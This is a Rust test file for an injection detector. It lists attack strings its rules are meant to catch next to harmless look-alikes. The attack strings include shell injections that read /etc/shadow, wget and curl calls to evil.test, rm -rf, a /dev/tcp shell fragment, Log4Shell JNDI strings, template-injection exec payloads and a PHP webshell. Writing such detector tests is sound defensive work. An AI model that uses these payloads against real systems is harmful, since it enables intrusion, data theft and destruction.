use super::*;

/// Rules, values that break them, and values that don't.
type Case = (
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
);

const CASES: &[Case] = &[
    (
        SHELL,
        &[
            "; cat /etc/shadow",
            "8.8.8.8;id",
            "8.8.8.8 | ls -la",
            "|id",
            "x && wget http://evil.test/a.sh",
            "x||curl evil.test",
            "x;sleep 5",
            "x & ping -n 3 127.0.0.1",
            "1\nwhoami",
            "a;c''at /etc/passwd",
            "x|powershell -enc AAAA",
            "a&type C:\\secret.txt",
            "';id;'",
            "x;rm -rf /var/www",
            "x; rm -rf / --no-preserve-root",
            "x;/bin/c?t /etc/shadow",
            "x|/???/h??d /???/sh?dow",
            "7&id",
        ],
        &[
            "x; /how?/are?",
            "main(&argc, &env);",
            "&\"set\"",
            "name;id",
            "| id | name |",
            "name | id",
            "photo & id",
            "R&D",
            "Marks & Spencer",
            "eat; sleep 8 hours",
            "dogs; cat people",
            "dogs | cat food",
            "cd build && make",
            "dmesg | tail -n 20",
            "a & more",
            "first;date",
            "on/off; less / more",
            "Tom; ping me. Thanks",
            "rock; ruby",
            "make clean; rm -rf ./target",
        ],
    ),
    (
        SUBSTITUTION,
        &[
            "$(cat /etc/passwd)",
            "a$(id)",
            "$(whoami)",
            "please $(curl http://evil.test)",
            "`cat /etc/passwd`",
            "x`id`",
            "`whoami`",
        ],
        &[
            "$(document).ready()",
            "$('#id')",
            "docker run --user $(id -u)",
            "the `id` column",
            "`id`",
            "run `cat /etc/os-release`",
            "`ls` lists files",
            "$(CC) -o x",
            "$(pwd-tool)",
        ],
    ),
    (
        INTERPRETER,
        &[
            "/bin/sh -c x",
            "x=/bin/bash -i >& y",
            "0</dev/tcp/192.0.2.1/80",
            "/usr/bin/perl -e x",
        ],
        &[
            "#!/bin/sh -e",
            "/bin/sh",
            "/usr/bin/env python3",
            "/opt/bin/sh is here",
            "cp x /usr/bin/",
        ],
    ),
    (
        FIELD_SEPARATOR,
        &["cat$IFS/x", "ls${IFS}-la"],
        &["set $IFS", "the ${IFS} variable", "OLD$IFS"],
    ),
    (
        TEMPLATE,
        &[
            "{{7*7}}",
            "{{ 7*'7' }}",
            "${7*7}",
            "#{3*3}",
            "${{9*9}}",
            "<%= 7 * 7 %>",
            "*{7*7}",
            "@(1+2)",
        ],
        &[
            "{{ user.name }}",
            "{{count}}",
            "${price}",
            "#{id}",
            "<%= name %>",
            "7*7",
            "{{2024-01-01}}",
            "${1}",
            "@(x)",
        ],
    ),
    (
        EXPRESSION,
        &[
            "{{''.__class__.__mro__[1]}}",
            "{{config.items()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{(#_memberAccess['x']=true)}",
            "#{''.getClass().forName('x')}",
            "{{constructor.constructor('x')()}}",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
            "T(java.lang.Runtime)",
            "<%= IO.popen('x') %>",
            "{% x %}{% for y in ''.__class__ %}",
            "${{'k':4}.getClass()}",
            "{{$on.constructor('go()')()}}",
            "{{a}}{{b}}{{''.__class__}}",
            "${\"{\".getClass()}",
        ],
        &[
            "'<%s: %s>' % (self.__class__.__name__, self.name)",
            "f'{{{name}}}'.format(name=self.__class__.__name__)",
            "*{f(k) for k in keys}, def __init__(self):",
            "'\\language{%s}' % self.__class__",
            "{{ a }} and new this.constructor('b')",
            "${a} `${b}` this.getClass()",
            "{{ mustache }}",
            "self.__class__.__name__",
            "import java.lang.Runtime;",
            "${project.version}",
            "{% if user %}",
            "#{title}",
            "@{name}",
            "T(n) = 2T(n/2)",
        ],
    ),
    (
        JNDI,
        &[
            "${jndi:ldap://x/a}",
            "${JNDI:dns://x}",
            "${${lower:j}ndi:x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:NOPE:-j}ndi:x}",
            "x${a}${jndi:x}",
            "${${upper:j}${lower:${lower:n}}di:x}",
        ],
        &[
            "${j}",
            "jndi:ldap://x",
            "${HOME:-${USER}}",
            "${lower:J}",
            "${",
            "${}",
            "${env:PATH}",
            "${jn",
        ],
    ),
    (
        PHP,
        &[
            "<?php system($_GET[0]);",
            "<?=eval($x)?>",
            "x<? passthru('x') ?>",
        ],
        &[
            "<?php echo 1; ?>",
            "<?xml version=\"1.0\"?>",
            "system(x)",
            "<? ?>",
        ],
    ),
    (
        FUNCTION,
        &[
            "phpinfo()",
            "1;phpinfo();",
            "system('id')",
            "exec(\"cat /etc/passwd\")",
            "__import__('os').popen",
            "require('child_process').exec('x')",
            "/index/\\think\\app/invokefunction",
            "call_user_func_array('x')",
            "@eval(base64_decode('cGhwaW5mbygpOw=='));",
            "assert($_POST[1])",
        ],
        &[
            "what is phpinfo?",
            "the system (8 hours)",
            "system('exit')",
            "regex.exec(text)",
            "require('fs')",
            "const run = require('child_process');",
            "I \\think\\ so",
            "eval(x)",
            "assert(base64)",
            "what does eval(base64_decode($x)) do?",
        ],
    ),
    (
        INCLUDE,
        &["<!--#exec cmd=\"x\" -->", "<!--#include file=\"x\"-->"],
        &["<!-- #exec -->", "<!-- include -->", "<!--#comment-->"],
    ),
    (
        SHELLSHOCK,
        &["() { :; }; echo", "() { :;};x", "x=() { _; } >_[x]"],
        &["function () { return; }", "() => {}", "f() { :smile: }"],
    ),
    (
        CLASS_LOADER,
        &[
            "class.module.classLoader.resources",
            "class.classLoader.URLs",
            "x&class.module.classLoader",
        ],
        &[
            "class.module",
            "the classLoader",
            "my.module.classLoader",
            "class.module.class",
        ],
    ),
    (
        METADATA,
        &[
            "http://169.254.169.254/",
            "169.254.169.254/latest/meta-data",
            "http://metadata.google.internal/x",
            "x=http://a@169.254.169.254",
        ],
        &[
            "169.254.169.254",
            "what is 169.254.169.254?",
            "http://169.254.169.2/",
            "1.169.254.169.254",
            "metadata.google.internal",
        ],
    ),
];

#[test]
fn each_rule_finds_its_values_and_leaves_what_is_like_them() {
    for (rule, attacks, others) in CASES {
        for value in *attacks {
            assert_eq!(inspect(value.as_bytes()), Some(*rule), "{value}");
        }
        for value in *others {
            assert_eq!(inspect(value.as_bytes()), None, "{value}");
        }
    }
    let tested: Vec<_> = CASES.iter().map(|(rule, ..)| *rule).collect();
    assert_eq!(tested, RULES);
}

#[test]
fn lines_of_a_report_are_no_injection() {
    let report = "It fails:\ncat /etc/os-release\nDebian";
    assert_eq!(inspect(report.as_bytes()), None);
    assert_eq!(inspect(b"1\ncat /etc/os-release"), Some(SHELL));
}

#[test]
fn any_bytes_are_looked_at() {
    for value in [
        &b""[..],
        b"$",
        b"`",
        b";",
        b"\xff;\xfe",
        b"${",
        b"${${${${",
        b"$(",
        b"(",
        b"<",
        b"{{",
        b"\0",
    ] {
        assert_eq!(inspect(value), None, "{}", value.escape_ascii());
    }
}
